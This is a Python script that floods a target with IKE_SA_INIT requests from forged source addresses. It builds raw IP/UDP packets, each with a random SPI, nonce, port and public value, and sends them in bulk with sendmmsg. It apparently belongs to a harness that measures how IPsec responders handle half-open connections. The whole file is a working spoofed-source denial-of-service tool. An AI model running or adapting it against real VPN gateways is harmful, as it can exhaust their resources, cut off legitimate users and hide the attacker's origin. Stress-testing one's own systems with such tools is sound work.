"""IKE_SA_INIT requests with forged sources, as fast as the kernel takes them: `flood.py TARGET PORT COUNT [SOURCE ...]` (root).

Each is valid in itself, with an SPI, a nonce, a port and a public value of its own; without SOURCEs also with an address of its own,
from anywhere, else with one of those in turn. Prints one object: how many were sent, in how many seconds.
"""

from __future__ import annotations

import ctypes
import json
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Sequence
from pathlib import Path

sys.path.append(str(Path(__file__).resolve().parents[1]))

from support.half_open import request

BATCH = 256
IP_HDRINCL = 3
PROTOCOL_UDP = 17
MARKER = bytes(4)
_KE_AND_NONCE = 32
_IP_AND_UDP = struct.Struct("!BBHHHBBH4s4sHHHH")


class _Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class _Message(ctypes.Structure):
    """struct mmsghdr of sendmmsg(2)."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("vector", ctypes.POINTER(_Iovec)),
        ("vectors", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_long),
        ("sent", ctypes.c_uint),
    )


def packets(target: str, port: int, count: int, sources: Sequence[str]) -> tuple[bytes, int]:
    """All of them, one after the other, and the length of each."""
    message = request()
    body = (MARKER if port == 4500 else b"") + message
    length = _IP_AND_UDP.size + len(body)
    octets = random.Random(0)
    to = socket.inet_aton(target)
    addresses = [socket.inet_aton(source) for source in sources]
    spi_at = len(body) - len(message)
    public_at = body.index(message[-2 * _KE_AND_NONCE - 4 :][:_KE_AND_NONCE])
    made = []
    for number in range(count):
        source = addresses[number % len(addresses)] if addresses else _anywhere(octets)
        head = _IP_AND_UDP.pack(
            0x45, 0, length, number & 0xFFFF, 0, 64, PROTOCOL_UDP, 0, source, to,
            octets.randrange(1024, 65536), port, length - 20, 0,
        )  # fmt: skip
        fresh = octets.randbytes(8 + 2 * _KE_AND_NONCE)
        between = body[public_at + _KE_AND_NONCE : len(body) - _KE_AND_NONCE]
        made.append(
            head + body[:spi_at] + fresh[:8] + body[spi_at + 8 : public_at] + fresh[8:40] + between + fresh[40:]
        )
    return b"".join(made), length


def _anywhere(octets: random.Random) -> bytes:
    """A unicast address of nobody in particular."""
    return bytes((octets.randrange(11, 100), *octets.randbytes(2), octets.randrange(1, 255)))


def send(target: str, data: bytes, length: int) -> float:
    """Seconds that it took."""
    address = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(target)), 16)
    buffer = ctypes.create_string_buffer(data, len(data))
    count, start = len(data) // length, ctypes.addressof(buffer)
    vectors = (_Iovec * count)(*(_Iovec(start + index * length, length) for index in range(count)))
    messages = (_Message * count)()
    for index in range(count):
        messages[index] = _Message(ctypes.addressof(address), 16, ctypes.pointer(vectors[index]), 1, None, 0, 0, 0)
    libc = ctypes.CDLL(None, use_errno=True)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, IP_HDRINCL, 1)
        begun, done = time.monotonic(), 0
        while done < count:
            sent = libc.sendmmsg(raw.fileno(), ctypes.byref(messages[done]), min(BATCH, count - done), 0)
            if sent < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            done += sent
        return time.monotonic() - begun


if __name__ == "__main__":
    where, number, how_many, *names = sys.argv[1:]
    content, each = packets(where, int(number), int(how_many), names)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    sys.stdin.readline()
    print(json.dumps({"sent": int(how_many), "seconds": send(where, content, each)}))
